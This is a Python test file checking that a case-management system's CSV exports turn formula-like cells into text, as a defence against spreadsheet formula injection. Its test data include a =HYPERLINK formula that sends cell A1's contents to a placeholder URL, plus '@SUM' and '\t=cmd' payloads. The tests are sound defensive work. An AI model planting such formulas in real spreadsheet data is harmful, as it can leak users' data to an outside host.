"""CSV exports open safely in a spreadsheet: a text cell that a spreadsheet would run as a
formula (`=`, `+`, `-`, `@`) is written as text, in every CSV the system writes."""

from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient
from sqlalchemy.orm.attributes import flag_modified
from sqlmodel import Session

from engine.base.clock import ManualClock
from engine.base.settings import PROJECT_ROOT
from engine.nrm_engine import NrmEngine
from engine.reports.csv_files import csv_text
from engine.storage.models import Case
from tests.support.auth import bearer
from tests.support.walks import CaseWalk

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"open")'


def test_a_cell_a_spreadsheet_would_run_is_written_as_text() -> None:
    written = csv_text(
        ("name", "count"),
        [("=1+1", 3), ("+1", -2), ("-1", 0.5), ("@SUM(A1)", 1), ("\t=cmd", 1), ("Elbasan", 7)],
    )
    rows = list(csv.reader(io.StringIO(written)))
    assert rows[1:] == [
        ["'=1+1", "3"],
        ["'+1", "-2"],
        ["'-1", "0.5"],
        ["'@SUM(A1)", "1"],
        ["'\t=cmd", "1"],
        ["Elbasan", "7"],
    ]


def test_a_region_typed_as_a_formula_reaches_the_compliance_csv_as_text(
    client: TestClient, clock: ManualClock, engine: NrmEngine
) -> None:
    walk = CaseWalk(client, clock)
    with Session(engine.db) as session:
        case = session.get(Case, walk.id)
        assert case is not None
        case.data = {**case.data, "home_region": HOSTILE, "case_manager": "@SUM(1+1)"}
        flag_modified(case, "data")
        session.add(case)
        session.commit()

    response = client.get("/api/compliance.csv", headers=bearer(client, "auditor"))
    assert response.status_code == 200, response.text
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]


def test_every_csv_is_written_through_the_one_safe_writer() -> None:
    writers = [
        path.relative_to(PROJECT_ROOT).as_posix()
        for folder in ("engine", "api", "cli", "documents", "forms")
        for path in (PROJECT_ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["engine/reports/csv_files.py"]
